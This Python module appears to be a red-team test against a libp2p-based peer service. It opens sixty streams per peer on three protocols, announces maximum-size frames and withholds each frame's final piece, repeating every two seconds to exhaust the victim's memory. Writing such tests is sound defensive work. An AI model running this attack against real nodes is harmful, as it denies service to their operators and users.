"""Frames of four MiB without their last byte, sixty on one connection (K-A).

The victim keeps what has come of a frame until its end.
"""

from __future__ import annotations

import trio
from libp2p.utils.varint import encode_uvarint

from p2p.base.limits import MAX_FRAME
from tests.redteam.target import Target, quietly

STREAMS = 60
PROTOCOLS = ("/folkmoot/query/1", "/folkmoot/infer/1", "/folkmoot/sync/1")
PIECE = 64 * 1024
AGAIN_S = 2.0


async def attack(target: Target) -> None:
    async with target.bare("unfinished frames") as host:
        while True:
            for peer in list(host.get_connected_peers()):
                async with trio.open_nursery() as nursery:
                    for number in range(STREAMS):
                        nursery.start_soon(_hold, host, peer, PROTOCOLS[number % len(PROTOCOLS)])
            await trio.sleep(AGAIN_S)


async def _hold(host: object, peer: object, protocol: str) -> None:
    stream = await quietly(host.new_stream, peer, [protocol])  # type: ignore[attr-defined]
    if stream is None or await quietly(stream.write, encode_uvarint(MAX_FRAME)) is None:
        return
    for _ in range(MAX_FRAME // PIECE - 1):
        if await quietly(stream.write, bytes(PIECE), timeout_s=2.0) is None:
            return
